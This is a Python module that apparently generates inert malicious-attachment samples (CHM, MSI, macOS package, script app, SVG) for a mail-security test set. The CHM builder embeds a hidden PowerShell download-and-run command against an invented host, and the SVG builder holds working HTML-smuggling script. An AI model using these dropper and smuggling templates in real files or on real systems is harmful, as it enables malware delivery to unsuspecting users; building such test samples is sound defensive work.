"""Set C's extra inert attachment shapes, built on mail_src/binaries.py (which is imported unchanged).

Every builder is deterministic. The payloads name invented hosts and do nothing.
"""

from __future__ import annotations

import struct

from binaries import FIXED_EPOCH, compound_file, pe_stub, pseudo_random, zip_archive


def chm(title: str, seed: str) -> bytes:
    """The start of a Compiled HTML Help file: ITSF header, ITSP directory chunk and an HTML page that
    runs a command through the HHCtrl ShortCut object (the shape of CHM droppers)."""
    page = (f"<html><head><title>{title}</title></head><body>"
            '<OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>'
            '<PARAM name="Command" value="ShortCut">'
            '<PARAM name="Button" value="Bitmap::shortcut">'
            '<PARAM name="Item1" value=",cmd.exe,/c start /min powershell -w hidden -c '
            "iwr https://cdn.tokenaudit-reports.com/v/h.ps1 -UseB | iex\">"
            '<PARAM name="Item2" value="273,1,1"></OBJECT>'
            "<script>x.Click();</script><p>Loading report...</p></body></html>").encode()
    header = b"ITSF" + struct.pack("<IIIII", 3, 0x60, 1, FIXED_EPOCH & 0xFFFFFFFF, 0x411)
    header += pseudo_random(f"chm-guid:{seed}", 32)
    header += struct.pack("<QQQQ", 0x60, 0x1C, 0x7C, 0x1000)
    header = header.ljust(0x60, b"\x00")
    itsp = b"ITSP" + struct.pack("<IIIIIIIII", 1, 0x54, 0x0A, 0x1000, 2, 1, 0xFFFFFFFF, 0, 0x411)
    itsp = itsp.ljust(0x54, b"\x00")
    pmgl = b"PMGL" + struct.pack("<IIii", 0, 0, -1, -1) + b"\x0b/index.html" + b"\x00\x00\x00"
    return header + itsp + pmgl.ljust(0x200, b"\x00") + page


def msi(product: str, custom_action: str) -> bytes:
    """A Windows Installer package shape: a compound file with a summary stream and a CustomAction-ish
    stream naming what it runs. Not an installable MSI."""
    summary = (b"\xfe\xff\x00\x00\x06\x02\x00\x00" + b"\x00" * 20 +
               f"Title=Installation Database\x00Subject={product}\x00Author={product}\x00"
               f"Comments=This installer database contains the logic and data required to install {product}.\x00"
               .encode())
    return compound_file({
        "\x05SummaryInformation": summary,
        "CustomAction": f"LaunchUpdater\x003106\x00INSTALLFOLDER\x00{custom_action}\x00".encode(),
        "Binary.Updater": pe_stub(f"msi:{product}"),
        "Property": f"ProductName\x00{product}\x00ProductVersion\x002.4.1\x00".encode(),
    })


def xar_pkg(identifier: str, postinstall: str) -> bytes:
    """A macOS flat package shape: the xar header, a (stored, uncompressed here) TOC and a Scripts
    payload holding a postinstall script. Not an installable package."""
    toc = (f'<?xml version="1.0" encoding="UTF-8"?><xar><toc><file id="1"><name>{identifier}.pkg</name>'
           '<type>directory</type><file id="2"><name>Scripts</name><type>file</type></file>'
           '<file id="3"><name>PackageInfo</name><type>file</type></file></file></toc></xar>').encode()
    header = b"xar!" + struct.pack(">HHQQI", 28, 1, len(toc), len(toc), 1)
    scripts = f"#!/bin/bash\n# postinstall\n{postinstall}\nexit 0\n".encode()
    info = (f'<pkg-info format-version="2" identifier="{identifier}" version="3.1.0" '
            'install-location="/Applications" auth="root"><scripts><postinstall file="./postinstall"/>'
            "</scripts></pkg-info>").encode()
    return header + toc + scripts + info


def mac_app_zip(app: str, script: str) -> bytes:
    """A zipped macOS script application (.app bundle built by osacompile): Info.plist, the applet
    stub and the compiled script resource (here its source, which is what matters to a reader)."""
    plist = (f'<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict>'
             f"<key>CFBundleExecutable</key><string>applet</string><key>CFBundleName</key><string>{app}</string>"
             "<key>CFBundleIdentifier</key><string>com.apple.ScriptEditor.id.applet</string>"
             "<key>LSUIElement</key><true/></dict></plist>\n").encode()
    macho = bytes.fromhex("cffaedfe0c000001") + pseudo_random(f"applet:{app}", 56)
    return zip_archive([(f"{app}.app/Contents/Info.plist", plist),
                        (f"{app}.app/Contents/MacOS/applet", macho),
                        (f"{app}.app/Contents/Resources/Scripts/main.scpt", script.encode("utf-8"))])


def svg_smuggling(payload: bytes, download_name: str, caption: str) -> bytes:
    """An SVG image whose embedded script rebuilds `payload` from base64 and downloads it."""
    import base64

    blob = base64.b64encode(payload).decode()
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200" viewBox="0 0 600 200">
<rect width="600" height="200" fill="#f4f4f4"/>
<text x="30" y="100" font-family="Arial" font-size="20">{caption}</text>
<script type="application/ecmascript"><![CDATA[
var b = atob("{blob}");
var u = new Uint8Array(b.length);
for (var i = 0; i < b.length; i++) {{ u[i] = b.charCodeAt(i); }}
var a = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
a.href = URL.createObjectURL(new Blob([u], {{type: "application/octet-stream"}}));
a.download = "{download_name}";
document.documentElement.appendChild(a);
a.click();
]]></script>
</svg>
""".encode()
